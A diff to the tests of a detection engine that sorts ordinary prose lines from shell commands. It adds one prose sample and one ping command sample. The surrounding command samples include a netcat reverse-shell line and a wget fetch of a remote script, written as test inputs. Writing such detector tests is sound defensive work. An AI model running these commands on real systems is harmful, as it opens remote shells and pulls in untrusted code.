@@ -114,6 +114,7 @@ LINES_OF_PROSE_AND_CODE = [
     "Notes:\nping me when you are back\nrev up the demo for Monday\nsh, the baby is asleep",
     "Columns\nid\nname\ncreated_at",
     "TODO\nls\n",
+    "Hello\nID 4521 never arrived.\nRev 2 of the board fails too.\nId ... not sure what else",
 ]
 
 
@@ -131,6 +132,7 @@ def test_words_on_their_own_line_are_not_commands(engine: DetectionEngine, text:
         "report.pdf\nid -a",
         "report.pdf\nuname -a",
         "eu-west\nping -c 4 10.1.2.3",
+        "eu-west\nping 10.9.8.7",
         "x\nnc 198.51.100.7 9001 -e /bin/sh",
         "x\nwget files.example.net/run.sh",
         "ticket 42\nwhoami",
